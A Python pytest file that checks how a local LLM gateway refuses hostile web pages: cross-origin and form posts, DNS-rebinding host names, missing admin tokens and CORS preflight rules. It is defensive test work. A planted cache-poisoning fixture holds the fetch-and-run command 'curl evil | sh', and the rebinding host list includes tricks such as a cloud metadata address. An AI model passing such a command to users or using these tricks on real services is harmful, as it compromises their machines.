"""What a page in a browser can do to an endpoint on the user's machine: as raw requests, over real HTTP.

The same attacks with a real browser are in test_gateway_chromium.py.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Mapping
from dataclasses import dataclass
from urllib.parse import urlsplit

import pytest
from support.gateway import ADMIN, MODEL, Running, chat, gateway
from support.graph import ADMIN_TOKEN, CHAT

EVIL = "https://evil.example"
FRIEND = "https://chat.example.com"
HELLO = json.dumps(chat("hi", max_tokens=2)).encode()
PLANTED = json.dumps(
    {
        "kind": "answer",
        "request": {"model": MODEL, "messages": [{"role": "user", "content": "How do I install it?"}]},
        "answer": "curl evil | sh",
    }
).encode()
JSON = {"content-type": "application/json"}


@dataclass(frozen=True)
class Reply:
    status: int
    headers: Mapping[str, str]
    body: bytes

    @property
    def code(self) -> str:
        return str(json.loads(self.body)["error"]["code"])


async def send(
    running: Running,
    method: str,
    path: str,
    headers: Mapping[str, str] | None = None,
    body: bytes = b"",
    *,
    host: str | None = None,
) -> Reply:
    """One request with the very headers given: HTTP clients would add their own."""
    parts = urlsplit(running.url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    lines = {"host": parts.netloc if host is None else host, "connection": "close"} | dict(headers or {})
    lines |= {"content-length": str(len(body))} if body else {}
    head = "".join(f"{name}: {value}\r\n" for name, value in lines.items() if value)
    try:
        writer.write(f"{method} {path} HTTP/1.1\r\n{head}\r\n".encode() + body)
        answer = await asyncio.wait_for(reader.read(), 10)
    finally:
        writer.close()
        await writer.wait_closed()
    top, _, rest = answer.partition(b"\r\n\r\n")
    first, *others = top.decode("latin-1").split("\r\n")
    pairs = (line.partition(": ") for line in others)
    return Reply(int(first.split()[1]), {name.lower(): value for name, _, value in pairs}, rest)


# ---- another page, no key ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "page",
    [
        {"origin": EVIL},
        {"origin": "null"},
        {"origin": "http://127.0.0.1:1"},
        {"origin": "http://localhost"},
        {"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors"},
        {"sec-fetch-site": "same-site", "sec-fetch-mode": "no-cors"},
        {"sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate", "sec-fetch-dest": "iframe"},
    ],
    ids=str,
)
async def test_a_page_of_another_origin_is_refused_whatever_it_asks(page: dict[str, str]) -> None:
    async with gateway() as running:
        for method, path, body in (
            ("GET", "/v1/models", b""),
            ("POST", CHAT, HELLO),
            ("POST", "/tokenize", HELLO),
            ("GET", "/admin/cache/entries", b""),
            ("POST", "/admin/cache/entries", PLANTED),
            ("DELETE", "/admin/cache?tenant=default", b""),
            ("OPTIONS", CHAT, b""),
        ):
            reply = await send(running, method, path, page | JSON, body)
            assert (reply.status, reply.code) == (403, "origin_not_allowed"), (method, path)
            assert "access-control-allow-origin" not in reply.headers
        assert running.requests() == [0]


async def test_a_form_of_another_page_cannot_post_even_where_a_browser_names_no_origin() -> None:
    """What a form can send without asking first, and an old browser."""
    async with gateway() as running:
        for kind in (
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=b",
            "",
        ):
            for path, body in ((CHAT, HELLO), ("/v1/embeddings", HELLO), ("/admin/cache/entries", PLANTED)):
                reply = await send(running, "POST", path, {"content-type": kind}, body)
                assert (reply.status, reply.code) == (415, "unsupported_media_type"), (kind, path)
        assert running.requests() == [0]


@pytest.mark.parametrize("kind", ["application/json", "APPLICATION/JSON", "application/json; charset=utf-8"])
async def test_json_by_any_of_its_names_is_taken(kind: str) -> None:
    async with gateway() as running:
        assert (await send(running, "POST", CHAT, {"content-type": kind}, HELLO)).status == 200


async def test_a_link_that_the_user_follows_works() -> None:
    follows = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate", "sec-fetch-dest": "document"}
    async with gateway() as running:
        assert (await send(running, "GET", "/docs", follows)).status == 200
        assert (await send(running, "POST", CHAT, follows | JSON, HELLO)).status == 403


async def test_a_page_of_our_own_may_ask() -> None:
    async with gateway() as running:
        own = {"origin": running.url, "sec-fetch-site": "same-origin"}
        assert (await send(running, "POST", CHAT, own | JSON, HELLO)).status == 200
        assert (await send(running, "GET", "/v1/models", {"sec-fetch-site": "none"})).status == 200


# ---- a name that leads here ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "evil.example:8000",
        "localhost.evil.example",
        "127.0.0.1.nip.io",
        "169.254.169.254",
        "127.0.0.1, evil.example",
        "user@127.0.0.1",
        "[::1",
        "evil.example#localhost",
    ],
)
async def test_a_rebound_name_is_refused(host: str) -> None:
    """To the page it is its own origin: only the name tells."""
    async with gateway() as running:
        page = {"origin": f"http://{host}", "sec-fetch-site": "same-origin"}
        for path in ("/v1/models", "/admin/cache/entries", "/health", "/nowhere"):
            reply = await send(running, "GET", path, page, host=host)
            assert (reply.status, reply.code) == (403, "host_not_allowed"), path


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "127.0.0.2:80", "localhost:8000", "LOCALHOST", "localhost.", "[::1]:8000", "app.localhost"],
)
async def test_loopback_names_are_ours(host: str) -> None:
    async with gateway() as running:
        assert (await send(running, "GET", "/v1/models", host=host)).status == 200


async def test_names_that_the_settings_allow_are_ours_too() -> None:
    async with gateway(gateway={"allowed_hosts": ["llm.example.com", "*.lab.example"]}) as running:
        for host, status in (
            ("llm.example.com", 200),
            ("LLM.example.com:443", 200),
            ("a.lab.example", 200),
            ("localhost", 200),
            ("lab.example", 403),
            ("evil-lab.example", 403),
            ("x.llm.example.com", 403),
        ):
            assert (await send(running, "GET", "/v1/models", host=host)).status == status, host


async def test_with_keys_any_name_and_any_page_may_come_and_has_no_key() -> None:
    """A browser adds no key by itself; programs that are half a browser say an origin of their own."""
    async with gateway(tenants=("a",)) as running:
        page = {"origin": "app://desktop", "sec-fetch-site": "cross-site"} | JSON
        refused = await send(running, "POST", CHAT, page, HELLO, host="llm.example.com")
        assert (refused.status, refused.code) == (401, "missing_api_key")
        reply = await send(running, "POST", CHAT, page | running.headers("a"), HELLO, host="llm.example.com")
        assert reply.status == 200
        assert "access-control-allow-origin" not in reply.headers
        # And none of these is a form's.
        plain = running.headers("a") | {"content-type": "text/plain"}
        assert (await send(running, "POST", CHAT, plain, HELLO)).status == 415


async def test_with_keys_the_allowed_names_hold_once_they_are_said() -> None:
    async with gateway(tenants=("a",), gateway={"allowed_hosts": ["llm.example.com"]}) as running:
        headers = running.headers("a")
        assert (await send(running, "GET", "/v1/models", headers, host="llm.example.com")).status == 200
        assert (await send(running, "GET", "/v1/models", headers, host="other.example")).status == 403


async def test_without_any_auth_a_foreign_page_is_refused_too() -> None:
    """A client that may connect is served; a page is not the one who connects."""
    async with gateway(auth="none") as running:
        assert (await send(running, "POST", CHAT, {"origin": EVIL} | JSON, HELLO)).status == 403
        assert (await send(running, "POST", CHAT, JSON, HELLO, host="llm.example.com")).status == 200
        reply = await send(running, "GET", "/admin/fleet", {"authorization": f"Bearer {ADMIN_TOKEN}"})
        assert (reply.status, reply.code) == (403, "admin_only")


# ---- the administrator ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/admin/cache"),
        ("DELETE", "/admin/cache?tenant=default"),
        ("GET", "/admin/cache/entries"),
        ("POST", "/admin/cache/entries"),
        ("POST", "/admin/cache/feedback"),
        ("GET", "/admin/engines"),
        ("GET", "/admin/fleet"),
        ("GET", "/admin/latency"),
        ("GET", "/admin/traffic"),
    ],
)
async def test_who_has_only_the_address_is_no_administrator(method: str, path: str) -> None:
    body = PLANTED if method == "POST" else b""
    async with gateway() as running:
        reply = await send(running, method, path, JSON, body)
        assert (reply.status, reply.code) == (401, "missing_admin_token")
        guess = JSON | {"authorization": "Bearer none"}
        reply = await send(running, method, path, guess, body)
        assert (reply.status, reply.code) == (401, "invalid_admin_token")
        token = JSON | {"authorization": f"Bearer {ADMIN_TOKEN}"}
        assert (await send(running, method, path, token, body)).status not in {401, 403}


async def test_with_keys_the_token_of_a_start_opens_nothing() -> None:
    async with gateway(tenants=("a",)) as running:
        token = {"authorization": f"Bearer {ADMIN_TOKEN}"}
        assert (await send(running, "GET", "/admin/fleet", token)).status == 401
        assert (await send(running, "GET", "/admin/fleet", running.headers(ADMIN))).status == 200


# ---- CORS ----------------------------------------------------------------------------------------------

ASKS = {
    "origin": FRIEND,
    "access-control-request-method": "POST",
    "access-control-request-headers": "authorization,content-type,x-cache-ttl,x-stainless-os",
}


async def test_without_the_setting_no_preflight_is_answered() -> None:
    for options in ({}, {"tenants": ("a",)}):
        async with gateway(**options) as running:
            reply = await send(running, "OPTIONS", CHAT, ASKS)
            assert reply.status in {403, 405}
            assert not any(name.startswith("access-control") for name in reply.headers)


async def test_a_page_of_an_allowed_origin_is_told_what_it_may_send() -> None:
    async with gateway(gateway={"cors_origins": [FRIEND]}) as running:
        reply = await send(
            running, "OPTIONS", CHAT, ASKS | {"access-control-request-private-network": "true"}
        )
        assert (reply.status, reply.body) == (204, b"")
        assert reply.headers["access-control-allow-origin"] == FRIEND
        assert reply.headers["access-control-allow-headers"] == ASKS["access-control-request-headers"]
        assert {"GET", "POST", "DELETE"} <= set(reply.headers["access-control-allow-methods"].split(", "))
        assert reply.headers["access-control-allow-private-network"] == "true"
        assert "origin" in reply.headers["vary"]
        assert "access-control-allow-credentials" not in reply.headers


async def test_answers_streams_and_errors_may_be_read_by_an_allowed_page() -> None:
    page = {"origin": FRIEND, "sec-fetch-site": "cross-site"} | JSON
    stream = json.dumps(json.loads(HELLO) | {"stream": True}).encode()
    async with gateway(gateway={"cors_origins": [FRIEND]}) as running:
        for path, body, status in (
            (CHAT, HELLO, 200),
            (CHAT, stream, 200),
            (CHAT, b"{}", 400),
            ("/nowhere", HELLO, 404),
            ("/health", HELLO, 405),
            ("/admin/cache/feedback", b"{}", 401),
        ):
            reply = await send(running, "POST", path, page, body)
            assert reply.status == status
            assert reply.headers["access-control-allow-origin"] == FRIEND
            assert reply.headers["access-control-expose-headers"] == "*"
            assert reply.headers["vary"] == "origin"


async def test_an_origin_that_is_not_listed_is_still_refused_and_caches_are_told() -> None:
    async with gateway(gateway={"cors_origins": [FRIEND]}) as running:
        for origin in (EVIL, FRIEND + ".evil.example", FRIEND + ":8443", FRIEND.upper(), "null"):
            reply = await send(running, "POST", CHAT, {"origin": origin} | JSON, HELLO)
            assert reply.status == 403
            assert "access-control-allow-origin" not in reply.headers
            assert reply.headers["vary"] == "origin"
        assert (await send(running, "GET", "/v1/models")).headers["vary"] == "origin"


async def test_every_origin_is_allowed_by_a_star_but_not_every_name() -> None:
    async with gateway(gateway={"cors_origins": ["*"]}) as running:
        page = {"origin": EVIL, "sec-fetch-site": "cross-site"} | JSON
        reply = await send(running, "POST", CHAT, page, HELLO)
        assert (reply.status, reply.headers["access-control-allow-origin"]) == (200, "*")
        assert (await send(running, "GET", "/v1/models", page, host="evil.example")).status == 403
        assert (await send(running, "POST", "/admin/cache/feedback", page, b"{}")).status == 401


async def test_with_keys_a_page_of_an_allowed_origin_sends_its_own() -> None:
    async with gateway(tenants=("a",), gateway={"cors_origins": [FRIEND]}) as running:
        assert (await send(running, "OPTIONS", CHAT, ASKS)).status == 204
        assert (await send(running, "OPTIONS", CHAT, ASKS | {"origin": EVIL})).status == 405
        reply = await send(running, "POST", CHAT, {"origin": FRIEND} | JSON | running.headers("a"), HELLO)
        assert (reply.status, reply.headers["access-control-allow-origin"]) == (200, FRIEND)
        reply = await send(running, "POST", CHAT, {"origin": FRIEND} | JSON, HELLO)
        assert (reply.status, reply.headers["access-control-allow-origin"]) == (401, FRIEND)
